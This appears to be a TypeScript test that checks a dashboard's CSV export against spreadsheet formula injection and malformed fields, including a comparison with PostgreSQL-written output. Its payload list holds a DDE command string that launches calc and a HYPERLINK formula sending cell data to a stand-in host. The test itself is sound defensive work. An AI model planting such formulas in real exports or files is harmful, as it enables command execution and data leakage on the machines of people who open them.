// Texts that a spreadsheet would run, in every field of every kind that the dashboard hands out as CSV.
//
//   node prove/csv-formula.ts           also 5,000 texts by chance; on the embedded database
//   node prove/csv-formula.ts --quick   the known ones; on PostgreSQL, which writes the file itself
//
// Requirements (security.md §1, 12 and §3): no field of a file begins as a formula does, whatever is in the
// database; each is read back by a strict reader of RFC 4180 as it was stored, behind one quote at the most; and the
// lines that PostgreSQL writes are those that we write, byte by byte.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { getTableColumns } from 'drizzle-orm';
import type { PgColumn, PgTable } from 'drizzle-orm/pg-core';
import { EXPORTED, readRows } from '../src/features/submissions/list/export.service.ts';
import {
  EXPORT_TYPES,
  type ExportType,
} from '../src/features/submissions/kinds/submissions.contract.ts';
import { openSite, type Site } from '../src/server/testing.ts';
import { Figures } from './figures.part.ts';
import { type Chance, chanceFrom } from './chance.part.ts';
import { prepareSites } from './sites.part.ts';
import { inWorkspace, type Workspace } from '../testing/workspace.ts';

const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
const ENDS = [
  '1+1',
  `cmd|' /c calc'!a0`,
  'hyperlink("https://inject.example/?x="&a1,"press")',
  '","=1+1',
  '"\r\n=1+1',
];
/** Nothing to run, and all that a reader of CSV could trip over. */
const PLAIN = [
  '',
  "'=1+1",
  ' =1+1',
  'a"b',
  '"',
  '""',
  ',',
  'a\r\nb',
  'a\nb',
  '\\.',
  'é, 中, 🌍',
  'x'.repeat(5000),
];
const KNOWN = [...STARTS.flatMap((start) => ['', ...ENDS].map((end) => start + end)), ...PLAIN];
const byChance = 5000;

/** Texts of a few of what could go wrong; never NUL, which neither our forms nor PostgreSQL take. */
function textBy(chance: Chance): string {
  const parts = [...STARTS, '"', '""', ',', ';', '\r\n', '\\', "'", ' ', 'a', 'é', '🌍', '\u2028'];
  return Array.from({ length: 1 + chance.below(8) }, () => chance.pick(parts)).join('');
}

/** A value that the column takes: the text where it is of text. An address is unique and in small letters. */
function valueFor(name: string, column: PgColumn, text: string, n: number): unknown {
  if (column.getSQLType() === 'text')
    return /email/i.test(name) ? `${text}${n}`.toLowerCase() : text;
  if (column.getSQLType() === 'uuid') return randomUUID();
  if (column.getSQLType() === 'boolean') return false;
  if (column.getSQLType() === 'bigint') return BigInt(n);
  return new Date(1_763_000_000_000 + n);
}

/** Fills all that a list shows, and what its table requires. */
async function storeTexts(site: Site, type: ExportType, texts: readonly string[]): Promise<void> {
  const { table, columns } = EXPORTED[type];
  const all = Object.entries(getTableColumns(table as PgTable)).filter(
    ([name, column]) => name in columns || (column.notNull && !column.hasDefault),
  );
  const rows = texts.map((text, n) =>
    Object.fromEntries(
      // The one text that the export itself asks for: drafts are left out.
      all.map(([name, column]) => [name, valueFor(name, column as PgColumn, text, n)]),
    ),
  );
  for (let from = 0; from < rows.length; from += 500)
    await site.db.insert(table).values(rows.slice(from, from + 500) as never);
}

const isFormula = (field: string) => STARTS.some((start) => field.startsWith(start));

/** The faults of a type's file. */
async function faultsOf(site: Site, type: ExportType, texts: readonly string[]): Promise<string[]> {
  const admin = await site.loggedIn('admin');
  const { text: file } = await admin.get(`/api/admin/export/${type}`);
  let ours = '';
  for await (const piece of readRows(site.db, EXPORTED[type])) ours += piece;
  const body = file.slice(file.indexOf('\r\n') + 2);
  const [head = [], ...rows] = parse(file, { bom: true, recordDelimiter: '\r\n' }) as string[][];
  const faults: string[] = [];
  if (body !== ours) faults.push(`${type}: the database writes other lines than we do`);

  const { columns } = EXPORTED[type];
  const at = Object.entries(columns).flatMap(([name, column], place) =>
    column.getSQLType() === 'text' ? [{ name, place }] : [],
  );
  const found = new Map(at.map(({ name }) => [name, new Set<string>()]));
  for (const row of rows) {
    if (row.length !== head.length) faults.push(`${type}: a row of ${row.length} fields`);
    for (const [place, field] of row.entries())
      if (isFormula(field)) faults.push(`${type}.${head[place]}: ${JSON.stringify(field)}`);
    for (const { name, place } of at) found.get(name)?.add(row[place] ?? '');
  }
  for (const { name } of at)
    for (const [n, text] of texts.entries()) {
      const stored = valueFor(name, columns[name] as PgColumn, text, n) as string;
      const read = isFormula(stored) ? `'${stored}` : stored;
      if (!found.get(name)?.has(read))
        faults.push(`${type}.${name}: ${JSON.stringify(stored)} was not read back`);
    }
  return faults;
}

async function prove(workspace: Workspace): Promise<boolean> {
  await prepareSites(workspace);
  const site = await openSite({ work: false });
  workspace.atEnd(() => site.close());
  const chance = chanceFrom(4);
  const others = Array.from({ length: workspace.isQuick ? 0 : byChance }, () => textBy(chance));
  // Some columns take a text once.
  const texts = [...new Set([...KNOWN, ...others])];
  const faults: string[] = [];
  let fields = 0;
  for (const type of EXPORT_TYPES) {
    await storeTexts(site, type, texts);
    faults.push(...(await faultsOf(site, type, texts)));
    const { columns } = EXPORTED[type];
    fields += Object.values(columns).filter((column) => column.getSQLType() === 'text').length;
  }
  const figures = new Figures();
  figures.add('kinds, and their fields of text', `${EXPORT_TYPES.length}, ${fields}`);
  figures.add('texts in each of them', texts.length);
  figures.add('written by', site.database.kind === 'postgres' ? 'PostgreSQL' : 'us');
  figures.none('fields that run, break out or are read otherwise', faults);
  return figures.print();
}

await inWorkspace(600_000, prove);
